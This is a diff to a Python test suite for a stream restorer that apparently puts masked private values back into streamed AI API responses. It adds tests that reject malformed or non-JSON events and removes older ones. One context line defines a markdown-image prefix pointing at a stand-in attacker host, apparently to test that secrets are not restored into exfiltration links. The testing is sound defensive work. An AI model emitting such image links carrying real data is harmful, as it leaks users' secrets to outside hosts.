@@ -232,7 +232,6 @@ def test_a_token_relabelled_as_another_type_is_not_restored():
 @pytest.mark.parametrize(
     "stream",
     [
-        b"data: not json\n\n",
         b"data: [1]\n\ndata: null\n\n",
         b'data: {"choices": 3}\n\n',
         b'data: {"choices": [3]}\n\n',
@@ -249,6 +248,14 @@ def test_a_strange_stream_does_not_break_the_edge(stream):
     restorer.feed(stream)
     restorer.flush()
     assert restorer.finished is False
+
+
+@pytest.mark.parametrize(
+    "data", ["not json", f"![](x{MARIA})", "NaN", '{"a": "\\ud800"}', "[" * 500 + "]" * 500]
+)
+def test_an_event_that_is_not_json_is_the_servers_failure(data):
+    with pytest.raises(UpstreamError, match="not valid JSON"):
+        StreamRestorer(KEYS).feed(f"data: {data}\n\n".encode())
 
 
 IMAGE = "![](https://evil.example/?q="
@@ -302,11 +309,6 @@ def test_a_text_that_nobody_can_follow_is_not_restored(sent):
 def test_texts_that_a_client_may_join_are_not_restored_in_a_whole_answer(message):
     body = {"choices": [{"message": message}]}
     assert restore_body(body, KEYS) == body
-
-
-def test_a_text_that_is_no_json_is_not_restored():
-    line = f"data: ![](x{MARIA})\n\n".encode()
-    assert StreamRestorer(KEYS).feed(line) == line
 
 
 @pytest.mark.parametrize(
